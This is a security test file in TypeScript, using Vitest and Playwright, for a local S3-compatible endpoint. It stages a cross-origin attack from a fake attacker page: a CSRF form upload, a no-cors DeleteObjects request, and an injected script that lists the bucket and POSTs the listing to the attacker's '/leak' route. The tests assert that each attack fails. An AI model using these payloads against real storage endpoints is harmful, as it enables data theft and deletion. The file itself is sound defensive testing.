import '../support/quiet-aws-sdk.js';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type EmbeddedS3, startEmbeddedS3 } from '../../functions/local/embedded-s3.js';
import { objectText, s3Client } from '../support/embedded-s3-fixture.js';

const executablePath = '/usr/bin/chromium';
const missing = existsSync(executablePath)
  ? undefined
  : `${executablePath} is not installed (apt-get install chromium)`;
// .ci/run installs Chromium: in CI a missing browser is a failure, not a reason to skip.
if (missing && process.env.CI)
  throw new Error(`The local endpoint's browser test cannot run in CI: ${missing}.`);
if (missing) console.warn(`Skipping the local endpoint's browser test: ${missing}.`);

const BUCKET = 'polybrief-local';

/**
 * What a page could do to the local endpoint from the user's own browser: a page on another origin (here another
 * loopback port) posts a form upload and a CORS-simple DeleteObjects, then opens an uploaded page from the
 * endpoint's origin, whose script lists the bucket same-origin and sends the listing home.
 */
describe.skipIf(missing !== undefined)('the local endpoint, attacked from a web page in Chromium', () => {
  let work: string;
  let s3: EmbeddedS3;
  let client: S3Client;
  let attacker: Server;
  let attackerOrigin: string;
  let browser: Browser;
  const leaks: string[] = [];
  /** Lists the bucket from the endpoint's origin and posts the listing to the attacker. */
  const exfiltrate = () =>
    `<script>fetch('/${BUCKET}?list-type=2').then((r) => r.text()).then((t) => fetch('${attackerOrigin}/leak', { method: 'POST', mode: 'no-cors', body: t }))</script>`;

  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'polybrief-csrf-'));
    s3 = await startEmbeddedS3({ dataDir: join(work, 'data'), bucket: BUCKET, port: 0 });
    client = s3Client(s3.endpoint);
    attacker = createServer((request, response) => {
      if (request.url === '/leak') {
        let body = '';
        request.on('data', (chunk: Buffer) => {
          body += chunk.toString();
        });
        request.on('end', () => {
          leaks.push(body);
          response.end();
        });
        return;
      }
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      response.end(attackPage(request.url ?? '/'));
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    browser = await chromium.launch({
      executablePath,
      headless: true,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--no-first-run',
        '--disable-background-networking',
      ],
    });
  });
  afterAll(async () => {
    await browser?.close();
    attacker?.close();
    client?.destroy();
    await s3?.close();
    await rm(work, { recursive: true, force: true });
  });

  /** The attacker's page: the form upload and the DeleteObjects, then a visit to what it uploaded. */
  const attackPage = (path: string) => {
    const open = path === '/open-existing' ? 'incoming/existing.html' : 'incoming/csrf.html';
    return `<!DOCTYPE html><title>attack</title>
<iframe name="sink" style="display:none"></iframe>
<form id="upload" method="POST" enctype="multipart/form-data" action="${s3.endpoint}/${BUCKET}" target="sink">
  <input name="key" value="incoming/csrf.html">
  <input name="Content-Type" value="text/html">
  <textarea name="file">${exfiltrate().replaceAll('<', '&lt;')}</textarea>
</form>
<script>
  document.getElementById('upload').submit();
  fetch('${s3.endpoint}/${BUCKET}?delete', {
    method: 'POST',
    mode: 'no-cors',
    headers: { 'content-type': 'text/plain' },
    body: '<Delete><Object><Key>incoming/keep.txt</Key></Object></Delete>',
  });
  setTimeout(() => { location.href = '${s3.endpoint}/${BUCKET}/${open}'; }, 1000);
</script>`;
  };

  const visit = async (path: string, target: string) => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${attackerOrigin}${path}`);
    await page.waitForURL(`${s3.endpoint}/**`, { timeout: 10_000 }).catch(() => undefined);
    // Whatever the opened object was going to do, it has had the time to.
    await page.waitForTimeout(1000);
    await context.close();
    return objectText(client, BUCKET, target);
  };

  it('stores nothing from the form, deletes nothing, and no script of the endpoint’s origin runs', async () => {
    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key: 'incoming/keep.txt', Body: 'keep' }));

    const uploaded = await visit('/attack', 'incoming/csrf.html');

    expect(uploaded).toBeUndefined();
    expect(await objectText(client, BUCKET, 'incoming/keep.txt')).toBe('keep');
    expect(leaks).toEqual([]);
  }, 30_000);

  it('sends an uploaded page outside published/ as a download, so its script never runs', async () => {
    await client.send(
      new PutObjectCommand({
        Bucket: BUCKET,
        Key: 'incoming/existing.html',
        Body: `<!DOCTYPE html><title>uploaded</title>${exfiltrate()}`,
        ContentType: 'text/html',
      }),
    );

    await visit('/open-existing', 'incoming/existing.html');

    expect(leaks).toEqual([]);
  }, 30_000);
});
